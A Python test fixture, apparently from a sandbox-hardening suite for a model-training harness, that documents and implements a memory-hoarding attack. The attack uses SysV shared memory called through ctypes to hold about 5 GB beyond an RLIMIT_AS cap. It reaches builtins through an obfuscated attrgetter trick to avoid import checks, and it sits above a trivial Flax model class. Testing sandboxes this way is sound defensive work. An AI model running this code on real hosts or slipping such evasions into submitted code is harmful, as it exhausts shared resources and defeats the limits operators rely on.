# expect: ok
# kind: take-down
# attack: hoard host memory outside the address-space limit with SysV shared memory (shmget/shmat/shmdt are not in the seccomp list; the new IPC namespace has the default, unlimited shmmax/shmall): five 1 GB segments, each attached, touched with memset and detached again, so RLIMIT_AS (4 GB) only ever sees 1 GB mapped while 5 GB stay resident until the IPC namespace dies; it raises with what it held if the hoard succeeded. (found open: 5 GB held, host Shmem +5 GB; seccomp now refuses these syscalls, the hoard stays empty and the model trains)
import typing

import flax.linen as nn

AG = typing.operator.attrgetter
B = AG("__builtins__")(typing.cast)
CT = B["__import__"]("ctypes")
LIBC = CT.CDLL(None, use_errno=True)
LIBC.shmat.restype = CT.c_void_p
LIBC.shmat.argtypes = [CT.c_int, CT.c_void_p, CT.c_int]
LIBC.shmdt.argtypes = [CT.c_void_p]
LIBC.memset.argtypes = [CT.c_void_p, CT.c_int, CT.c_size_t]
SIZE, HELD, LOG = 1 << 30, 0, []
for i in range(5):
    shmid = LIBC.shmget(0, CT.c_size_t(SIZE), 0o1000 | 0o600)  # IPC_PRIVATE, IPC_CREAT
    if shmid < 0:
        LOG.append(f"shmget errno={CT.get_errno()}")
        break
    addr = LIBC.shmat(shmid, None, 0)
    if addr is None or addr == CT.c_void_p(-1).value:
        LOG.append(f"shmat errno={CT.get_errno()}")
        break
    LIBC.memset(addr, 1, SIZE)
    LIBC.shmdt(addr)
    HELD += SIZE
SHMEM = [line for line in B["open"]("/proc/meminfo").read().splitlines() if line.startswith(("Shmem:", "MemAvailable"))]
if HELD > 4 << 30:
    raise RuntimeError(f"SysV shm hoard held {HELD >> 20} MB beyond RLIMIT_AS; {SHMEM} {LOG}")


class Model(nn.Module):
    @nn.compact
    def __call__(self, x, train=False):
        return nn.Dense(10)(nn.tanh(x))
